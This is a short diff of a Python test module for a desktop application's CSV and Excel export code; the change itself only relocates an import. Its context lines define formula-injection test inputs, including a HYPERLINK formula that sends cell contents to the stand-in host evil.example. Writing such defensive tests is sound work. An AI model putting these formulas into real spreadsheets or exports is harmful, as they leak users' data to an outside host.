@@ -12,8 +12,8 @@ from openpyxl import load_workbook
 
 from desktop.exports.cells import csv_text, write_csv_rows
 from desktop.exports.excel import Sheet, write_workbook
+from desktop.imports.problems import ImportProblem
 from desktop.imports.service import ImportService
-from desktop.imports.validation import ImportProblem
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")'
 DANGEROUS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
